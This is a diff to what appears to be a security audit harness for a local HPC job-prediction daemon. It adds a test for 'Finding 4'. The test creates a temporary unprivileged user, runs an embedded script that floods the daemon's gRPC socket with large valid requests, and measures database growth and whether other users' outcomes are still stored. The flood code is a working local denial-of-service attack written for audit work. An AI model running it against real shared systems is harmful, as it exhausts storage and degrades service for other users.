@@ -5,6 +5,7 @@ Every attack uses only what an unprivileged local user has: the public gRPC sock
 """
 from __future__ import annotations
 
+import json
 import os
 import shutil
 import signal
@@ -251,3 +252,74 @@ def publish_as_root(make_target) -> dict:
     finally:
         shutil.rmtree(folder, ignore_errors=True)
         target.cleanup()
+
+
+_FLOOD = """
+import json, sys, time
+from hpcpredict.daemon.client import DaemonClient
+from hpcpredict.daemon.errors import HpcPredictError
+from hpcpredict.proto.v1 import hpcpredict_pb2 as pb
+script = sys.stdin.buffer.read()
+seconds, answered, with_id, refused = float(sys.argv[2]), 0, 0, 0
+request = pb.JobRequest(job=pb.JobIdentity(application="lmp"), script=script,
+                        resources=pb.Resources(nodes=2, ntasks=8), time_limit_s=3600)
+deadline = time.monotonic() + seconds
+with DaemonClient(sys.argv[1], timeout=30) as client:
+    while time.monotonic() < deadline:
+        try:
+            answer = client.predict(request)
+        except HpcPredictError:   # "busy": the daemon's fairness, not the store; ask again
+            refused += 1
+            continue
+        answered += answer.runtime_s > 0
+        with_id += bool(answer.prediction_id)
+print(json.dumps({"answered": answered, "with_prediction_id": with_id, "refused_busy": refused}))
+"""
+
+
+def predict_flood(target: Target, seconds: float = 60.0, outcomes: int = 50) -> dict:
+    """Finding 4: one ordinary user sends valid Predicts (a 60 KB script each: stored whole,
+    under the 64 KiB stored_request_bytes) over the local socket as fast as it can for
+    ``seconds``; then the hooks (root) report ``outcomes`` outcomes of another user. Store
+    growth (SQLite file + WAL, after the journal is committed) and how many outcomes were stored."""
+    import pwd
+    import sqlite3
+    import sys
+    import uuid
+
+    name = f"hpdf{uuid.uuid4().hex[:8]}"
+    subprocess.run(["useradd", "--no-create-home", "--shell", "/usr/sbin/nologin", name], check=True)
+    try:
+        user = pwd.getpwnam(name)
+        store0 = target.store_mib()
+        script = _script(0, 60_000)
+        done = subprocess.run([sys.executable, "-c", _FLOOD, target.info["hook_socket"], str(seconds)], input=script,
+                              capture_output=True, user=user.pw_uid, group=user.pw_gid, extra_groups=[],
+                              env={"HOME": "/tmp", "PATH": "/usr/bin:/bin"}, cwd="/tmp", timeout=seconds + 120)
+        flood = json.loads(done.stdout) if done.returncode == 0 else {"error": done.stderr.decode()[-300:]}
+        stored = 0
+        for index in range(outcomes):
+            try:
+                stored += target.stub.ReportOutcome(pb.Outcome(
+                    job_id=f"bob-{index}", elapsed_s=600, state="COMPLETED", end_time=1_700_000_000,
+                    request=_job(user="bob")), timeout=30).stored
+            except grpc.RpcError:
+                pass
+        time.sleep(3)   # the journal's last batch
+        files = {suffix: (target.data_dir / f"hpcpredict.sqlite{suffix}") for suffix in ("", "-wal")}
+        sizes = {suffix: round(path.stat().st_size / 2**20, 2) if path.exists() else 0.0
+                 for suffix, path in files.items()}
+        db = sqlite3.connect(f"file:{target.data_dir / 'hpcpredict.sqlite'}?mode=ro", uri=True)
+        try:
+            rows, kept = db.execute("SELECT COUNT(*), COALESCE(SUM(LENGTH(request)), 0) FROM predictions "
+                                    "WHERE user = ?", (name,)).fetchone()
+        finally:
+            db.close()
+        return {"seconds": seconds, "script_bytes": len(script), **flood,
+                "store_before_mib": store0, "store_after_mib": target.store_mib(),
+                "store_growth_mib": round(target.store_mib() - store0, 2),
+                "sqlite_file_mib": sizes[""], "wal_mib": sizes["-wal"],
+                "flooders_rows_kept": rows, "flooders_request_mib_kept": round(kept / 2**20, 2),
+                "other_users_outcomes": outcomes, "other_users_outcomes_stored": stored, **probe_latency(target)}
+    finally:
+        subprocess.run(["userdel", name], capture_output=True)
